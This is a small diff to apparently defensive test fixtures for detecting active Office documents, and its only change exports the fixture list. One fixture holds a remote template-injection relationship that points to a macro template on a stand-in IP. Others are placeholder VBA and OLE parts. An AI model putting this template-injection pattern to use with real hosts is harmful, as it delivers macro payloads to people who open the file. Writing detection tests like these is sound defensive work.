@@ -192,7 +192,7 @@ const parts = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:docu
 const relation =
   '<Relationships><Relationship Type="http://a/relationships/attachedTemplate" Target="http://203.0.113.7/a.dotm"' +
   ' TargetMode="External"/></Relationships>';
-const activeDocuments = [
+export const activeDocuments = [
   { 'word/_rels/settings.xml.rels': relation },
   { 'word/VBAPROJECT.BIN': 'x' },
   { 'word/embeddings/oleObject1.BIN': 'x' },
